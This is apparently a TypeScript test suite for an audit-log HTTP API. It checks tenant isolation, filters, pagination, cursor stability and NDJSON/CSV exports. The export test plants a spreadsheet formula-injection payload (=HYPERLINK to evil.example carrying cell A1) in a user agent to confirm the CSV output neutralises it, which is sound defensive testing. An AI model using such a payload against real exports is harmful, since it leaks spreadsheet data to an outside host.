import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { eventLeafHash } from '../../src/domain/ledger/leaf.js';
import { parsePosition } from '../../src/ports/event-store.js';
import { startTestServer, type TestServer } from '../support/server.js';
import { created, populatedOrganization } from '../support/tenants.js';

interface Entry {
  position: string;
  id: string;
  type: string;
  time: string;
  organizationID: string | null;
  resource: { kind: string; id: string };
  actor: { kind: string; id: string; name: string | null };
  correlationID: string;
  source: { address: string; userAgent: string | null } | null;
  stream: string;
  revision: number;
  data: any;
  metadata: any;
  leafHash: string;
  stored?: { data: unknown; metadata: any };
}
interface Page {
  items: Entry[];
  next: string | null;
}

const commit = (position: string) => Number(position.split('/')[0]);

describe('the audit log over HTTP', () => {
  let server: TestServer;
  let a: Awaited<ReturnType<typeof populatedOrganization>>;
  let b: Awaited<ReturnType<typeof populatedOrganization>>;
  const events = (org: string) => `/api/v1/organizations/${org}/events`;

  const page = async (path: string, token?: string): Promise<Page> => {
    const response = await server.api(path, token ? { token } : {});
    assert.equal(response.status, 200, `${path}: ${await response.clone().text()}`);
    return (await response.json()) as Page;
  };
  const all = async (path: string, token?: string): Promise<Entry[]> => {
    const items: Entry[] = [];
    let next: string | null = null;
    do {
      const sep = path.includes('?') ? '&' : '?';
      const body = await page(`${path}${sep}limit=1000${next ? `&cursor=${encodeURIComponent(next)}` : ''}`, token);
      items.push(...body.items);
      next = body.next;
    } while (next);
    return items;
  };
  const expect400 = async (path: string, pattern: RegExp) => {
    const response = await server.api(path);
    const text = await response.text();
    assert.equal(response.status, 400, `${path}: ${response.status} ${text}`);
    assert.match(JSON.parse(text).error_description, pattern);
  };

  before(async () => {
    server = await startTestServer();
    a = await populatedOrganization(server, 'audit-a');
    b = await populatedOrganization(server, 'audit-b');
  });
  after(() => server.close());

  test('entries of an organization: its events only, newest first, with the stored event and its ledger leaf hash', async () => {
    const items = await all(events(a.organizationId));
    assert.ok(items.length > 10, `${items.length} entries`);
    for (const item of items) assert.equal(item.organizationID, a.organizationId);
    assert.ok(!JSON.stringify(items).includes(b.marker), 'nothing of organization B');
    const positions = items.map((item) => commit(item.position));
    assert.deepEqual(positions, [...positions].sort((x, y) => y - x), 'newest first');
    assert.ok(items.some((item) => item.type === 'organization.created' && item.resource.kind === 'organization' && item.resource.id === a.organizationId));
    const group = items.find((item) => item.type === 'group.created' && item.resource.id === a.ids['groupid']);
    assert.ok(group, 'the group is there');
    assert.equal(group.actor.kind, 'platform_administrator');
    assert.equal(group.actor.id, 'platform-administrator');
    assert.equal(group.stream, `group-${a.ids['groupid']}`);

    // The leaf hash is the ledger tree's leaf at that position, and recomputes from the entry alone.
    const { tree, builder } = server.service.ledger;
    for (const item of items.slice(0, 20)) {
      const position = parsePosition(item.position);
      await builder.waitFor(position, 5000);
      const index = tree.leafIndexOf(position);
      assert.ok(index !== undefined, `a leaf for ${item.position}`);
      assert.equal(item.leafHash, tree.leaf(index).toString('base64'));
      // Sealed personal data: the entry shows it opened and carries the stored form, which the leaf covers.
      const content = item.stored ?? item;
      const recomputed = eventLeafHash({ position, streamName: item.stream, revision: item.revision, type: item.type, data: content.data, metadata: content.metadata });
      assert.equal(recomputed.toString('base64'), item.leafHash);
    }
  });

  test('each filter narrows to what it names', async () => {
    const org = a.organizationId;
    const every = await all(events(org));

    const exact = await all(`${events(org)}?type=user.created`);
    assert.deepEqual(exact.map((e) => e.type), ['user.created']);
    const prefix = await all(`${events(org)}?type=user.*`);
    assert.ok(prefix.length >= 1 && prefix.every((e) => e.type.startsWith('user.')));
    assert.deepEqual(prefix.map((e) => e.position), every.filter((e) => e.type.startsWith('user.')).map((e) => e.position));
    const two = await all(`${events(org)}?type=group.created&type=project.created`);
    assert.ok(two.length >= 2);
    assert.deepEqual(two.map((e) => e.position), every.filter((e) => e.type === 'group.created' || e.type === 'project.created').map((e) => e.position));

    const robot = every.find((e) => e.actor.kind === 'service_account');
    assert.ok(robot === undefined || robot.actor.name === robot.actor.id);
    const byActor = await all(`${events(org)}?actor=platform-administrator`);
    assert.deepEqual(byActor.map((e) => e.position), every.filter((e) => e.actor.id === 'platform-administrator').map((e) => e.position));

    const groups = await all(`${events(org)}?resourceKind=group`);
    assert.ok(groups.length >= 2 && groups.every((e) => e.resource.kind === 'group'));
    const one = await all(`${events(org)}?resource=${a.ids['projectID']}`);
    assert.ok(one.length >= 1 && one.every((e) => e.resource.id === a.ids['projectID']));
    assert.deepEqual(one.map((e) => e.position), every.filter((e) => e.resource.id === a.ids['projectID']).map((e) => e.position));

    const correlated = every.find((e) => e.type === 'user.created')!;
    const byCorrelation = await all(`${events(org)}?correlationID=${encodeURIComponent(correlated.correlationID)}`);
    assert.ok(byCorrelation.some((e) => e.id === correlated.id) && byCorrelation.every((e) => e.correlationID === correlated.correlationID));

    const oldest = every[every.length - 1]!;
    const newest = every[0]!;
    assert.equal((await all(`${events(org)}?to=${encodeURIComponent(new Date(Date.parse(oldest.time) - 1).toISOString())}`)).length, 0);
    const fromNewest = await all(`${events(org)}?from=${encodeURIComponent(newest.time)}`);
    assert.ok(fromNewest.some((e) => e.id === newest.id) && fromNewest.every((e) => Date.parse(e.time) >= Date.parse(newest.time)));
    const window = await all(`${events(org)}?from=${encodeURIComponent(oldest.time)}&to=${encodeURIComponent(newest.time)}&type=user.*`);
    assert.deepEqual(window.map((e) => e.position), prefix.map((e) => e.position));
  });

  test('order, limit bounds and pages', async () => {
    const org = a.organizationId;
    const desc = await all(events(org));
    const asc = await all(`${events(org)}?order=asc`);
    assert.deepEqual(asc.map((e) => e.position), [...desc].reverse().map((e) => e.position));
    assert.equal((await page(`${events(org)}?limit=1`)).items.length, 1);
    assert.equal((await page(`/api/v1/events?limit=1000`)).items.length <= 1000, true);
    // The platform log keeps growing on its own (signed tree heads are appended periodically),
    // so the default page is checked against counts taken just before and just after it.
    const countBefore = (await all('/api/v1/events')).length;
    const defaults = await page('/api/v1/events');
    const countAfter = (await all('/api/v1/events')).length;
    assert.ok(
      defaults.items.length >= Math.min(100, countBefore) && defaults.items.length <= Math.min(100, countAfter),
      `a page is 100 by default: ${defaults.items.length} items, ${countBefore} to ${countAfter} events`,
    );
    if (countBefore > 100) assert.notEqual(defaults.next, null);
    if (countAfter <= 100) assert.equal(defaults.next, null);
    await expect400(`${events(org)}?limit=0`, /limit/);
    await expect400(`${events(org)}?limit=1001`, /limit/);
    await expect400(`${events(org)}?limit=ten`, /limit/);
    // The last page says so.
    const last = await page(`${events(org)}?limit=${desc.length}`);
    assert.equal(last.items.length, desc.length);
    assert.equal(last.next, null);
  });

  test('bad input is a 400 naming it: unknown parameters, bad values, a cursor of another filter', async () => {
    const org = a.organizationId;
    await expect400(`${events(org)}?colour=red`, /colour/);
    await expect400(`${events(org)}?resourceKind=spaceship`, /resourceKind/);
    await expect400(`${events(org)}?from=yesterday`, /from/);
    await expect400(`${events(org)}?from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z`, /from/);
    await expect400(`${events(org)}?order=sideways`, /order/);
    await expect400(`${events(org)}?type=user.*.x`, /type/);
    await expect400(`${events(org)}?cursor=not-a-cursor`, /cursor/);
    const first = await page(`${events(org)}?type=group.*&limit=1`);
    assert.ok(first.next);
    await expect400(`${events(org)}?type=user.*&limit=1&cursor=${encodeURIComponent(first.next)}`, /cursor.*another filter/);
    await expect400(`${events(org)}?type=group.*&order=asc&limit=1&cursor=${encodeURIComponent(first.next)}`, /cursor/);
    await expect400(`${events(b.organizationId)}?type=group.*&limit=1&cursor=${encodeURIComponent(first.next)}`, /cursor/);
    // The same filter with another limit is fine.
    assert.equal((await page(`${events(org)}?type=group.*&limit=5&cursor=${encodeURIComponent(first.next)}`)).items.length >= 1, true);
  });

  test("organizations are isolated: another organization's administrator gets a 403, the platform log is for platform administrators", async () => {
    const own = await server.api(events(a.organizationId), { token: a.admin.token });
    assert.equal(own.status, 200, await own.clone().text());
    const body = (await own.json()) as Page;
    assert.ok(body.items.length > 0 && body.items.every((e) => e.organizationID === a.organizationId));
    assert.equal((await server.api(events(b.organizationId), { token: a.admin.token })).status, 403);
    assert.equal((await server.api('/api/v1/events', { token: a.admin.token })).status, 403);
    assert.equal((await server.api('/api/v1/events', { token: a.admin.token, headers: { accept: 'application/x-ndjson' } })).status, 403);
    assert.equal((await server.api(events(a.organizationId), { token: null })).status, 401);
  });

  test('a cursor walk is stable while events arrive: no duplicate, no gap', async () => {
    const org = b.organizationId;
    const base = `/api/v1/organizations/${org}`;
    const before = await all(`${events(org)}?order=asc`);
    let writing = true;
    let n = 0;
    const writer = (async () => {
      while (writing) {
        await created(server, `${base}/users`, { metadata: { name: `walker-${n}` }, spec: { subject: `walker-${n++}@example.com`, state: 'active', groupIDs: [] } });
      }
    })();
    try {
      // Newest first: the walk sees exactly what was there when it started.
      const first = await page(`${events(org)}?limit=3`);
      const walked = [...first.items];
      let next = first.next;
      while (next) {
        const body = await page(`${events(org)}?limit=3&cursor=${encodeURIComponent(next)}`);
        walked.push(...body.items);
        next = body.next;
      }
      const start = commit(first.items[0]!.position);
      // Oldest first: the walk runs into the new events as they come.
      const ascending: Entry[] = [];
      let cursor: string | null = null;
      do {
        const body: Page = await page(`${events(org)}?order=asc&limit=4${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
        ascending.push(...body.items);
        cursor = body.next;
      } while (cursor && ascending.length < before.length + 12);
      writing = false;
      await writer;
      assert.ok(n >= 2, `writes happened during the walks (${n})`);

      const everything = await all(`${events(org)}?order=asc`);
      assert.deepEqual(
        walked.map((e) => e.position),
        everything.filter((e) => commit(e.position) <= start).reverse().map((e) => e.position),
        'the descending walk: everything up to its start, once each',
      );
      assert.deepEqual(ascending.map((e) => e.position), everything.slice(0, ascending.length).map((e) => e.position), 'the ascending walk: a prefix of the log, no gap');
      assert.equal(new Set(ascending.map((e) => e.position)).size, ascending.length);
    } finally {
      writing = false;
      await writer;
    }
  });

  test('read-your-writes: an event is in the audit log right after the write answered', async () => {
    const user = await created(server, `/api/v1/organizations/${a.organizationId}/users`, {
      metadata: { name: 'right-away' },
      spec: { subject: 'right-away@example.com', state: 'active', groupIDs: [] },
    });
    const body = await page(`${events(a.organizationId)}?resource=${user.metadata.id}`);
    assert.deepEqual(body.items.map((e) => e.type), ['user.created']);
  });

  test('the source of a request: address and user agent (cut at 256 characters); none for events outside a request', async () => {
    const agent = `audit-test/1.0 ${'x'.repeat(400)}`;
    const response = await server.api(`/api/v1/organizations/${a.organizationId}/groups`, {
      method: 'POST',
      json: { metadata: { name: 'sourced' }, spec: { roleIDs: [], userIDs: [], serviceAccountIDs: [] } },
      headers: { 'user-agent': agent },
    });
    assert.equal(response.status, 201, await response.clone().text());
    const group = (await response.json()) as { metadata: { id: string } };
    const [entry] = (await page(`${events(a.organizationId)}?resource=${group.metadata.id}`)).items;
    assert.ok(entry);
    assert.equal(entry.source?.address, '127.0.0.1');
    assert.equal(entry.source?.userAgent, agent.slice(0, 256));
    assert.deepEqual(entry.metadata.source, entry.source);
    // What the process managers append (provisioning) happens outside any request.
    const system = (await all('/api/v1/events')).filter((e) => e.actor.kind === 'system');
    assert.ok(system.length > 0);
    for (const e of system) assert.equal(e.source, null, e.type);
  });

  test('NDJSON and CSV exports: every entry, a header, formulas defused, and the export recorded with its count', async () => {
    const org = a.organizationId;
    // An entry whose user agent a spreadsheet would run as a formula.
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const posted = await server.api(`/api/v1/organizations/${org}/groups`, {
      method: 'POST',
      json: { metadata: { name: 'formula' }, spec: { roleIDs: [], userIDs: [], serviceAccountIDs: [] } },
      headers: { 'user-agent': evil },
    });
    assert.equal(posted.status, 201);
    const expected = await all(`${events(org)}?order=asc`);

    const ndjson = await server.api(`${events(org)}?order=asc&limit=1`, { headers: { accept: 'application/x-ndjson' } });
    assert.equal(ndjson.status, 200);
    assert.match(ndjson.headers.get('content-type') ?? '', /application\/x-ndjson/);
    const lines = (await ndjson.text()).split('\n').filter(Boolean).map((line) => JSON.parse(line) as Entry);
    assert.equal(lines.length, expected.length, 'limit is ignored: every entry');
    assert.deepEqual(lines.map((e) => e.position), expected.map((e) => e.position));
    assert.deepEqual(lines[3], expected[3]);

    const exported = await all(`${events(org)}?type=audit.exported`);
    assert.equal(exported.length, 1);
    assert.equal(exported[0]!.data.count, expected.length);
    assert.equal(exported[0]!.data.format, 'ndjson');
    assert.equal(exported[0]!.data.completed, true);
    assert.equal(exported[0]!.data.filter.order, 'asc');
    assert.equal(exported[0]!.resource.kind, 'audit');
    assert.equal(exported[0]!.actor.id, 'platform-administrator');

    const csv = await server.api(`${events(org)}?type=group.*`, { headers: { accept: 'text/csv' } });
    assert.equal(csv.status, 200);
    assert.match(csv.headers.get('content-type') ?? '', /text\/csv/);
    const rows = (await csv.text()).split('\r\n').filter(Boolean);
    assert.equal(rows[0], 'position,id,time,type,organizationID,resourceKind,resourceID,actorKind,actorID,actorName,correlationID,sourceAddress,sourceUserAgent,leafHash,data');
    const groups = expected.filter((e) => e.type.startsWith('group.'));
    assert.equal(rows.length - 1, groups.length);
    const formula = rows.find((row) => row.includes('HYPERLINK'));
    assert.ok(formula);
    assert.ok(formula.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`), formula);
    assert.ok(!/(^|,)=/.test(formula), 'no cell starts with =');

    const recorded = await all(`${events(org)}?type=audit.exported`);
    assert.equal(recorded.length, 2);
    assert.equal(recorded[0]!.data.format, 'csv');
    assert.equal(recorded[0]!.data.count, groups.length);
    assert.deepEqual(recorded[0]!.data.filter.type, ['group.*']);

    // The platform export (platform administrators) holds both organizations.
    const platform = await server.api('/api/v1/events', { headers: { accept: 'application/x-ndjson' } });
    const platformLines = (await platform.text()).split('\n').filter(Boolean).map((line) => JSON.parse(line) as Entry);
    assert.ok(platformLines.some((e) => e.organizationID === b.organizationId) && platformLines.some((e) => e.organizationID === null));
  });

  test('an export stops when the client goes away, and is recorded as not completed', async () => {
    // A log far bigger than the socket's buffers: 20,000 events appended straight to the store.
    const filler = (n: number) => ({
      type: 'platform.bootstrap_token.issued',
      data: { tokenSha256: 'a'.repeat(64) },
      metadata: { eventId: `filler-${n}`, occurredAt: new Date().toISOString(), actor: { subject: 'filler', kind: 'system' as const }, correlationId: `filler-${n}`, causationId: 'filler' },
    });
    let head;
    for (let s = 0; s < 20; s++) {
      head = (await server.service.stores.events.appendToStream(`platform-filler-${s}`, Array.from({ length: 1000 }, (_, i) => filler(s * 1000 + i)), { expectedRevision: 'any' })).position;
    }
    await server.service.auditLog.waitFor(head, 10_000);
    const platformExports = async () => (await all('/api/v1/events?type=audit.exported')).filter((e) => e.organizationID === null);
    const earlier = (await platformExports()).length;

    const controller = new AbortController();
    const response = await server.api('/api/v1/events?order=asc', { headers: { accept: 'application/x-ndjson' }, signal: controller.signal });
    assert.equal(response.status, 200);
    const reader = response.body!.getReader();
    await reader.read();
    controller.abort();
    await reader.read().catch(() => undefined);
    const recorded = await (async () => {
      for (let i = 0; i < 200; i++) {
        const items = await platformExports();
        if (items.length > earlier) return items;
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      return [];
    })();
    assert.equal(recorded.length, earlier + 1, 'the cut export is recorded');
    assert.equal(recorded[0]!.data.completed, false);
    assert.ok(recorded[0]!.data.count > 0 && recorded[0]!.data.count < 20_000, `stopped early: ${recorded[0]!.data.count}`);
  });

  test('the audit endpoints are in the OpenAPI document', async () => {
    const document = (await (await server.api('/openapi.json')).json()) as { paths: Record<string, any> };
    assert.ok(document.paths['/api/v1/organizations/{organizationID}/events']?.get);
    assert.ok(document.paths['/api/v1/events']?.get);
  });
});
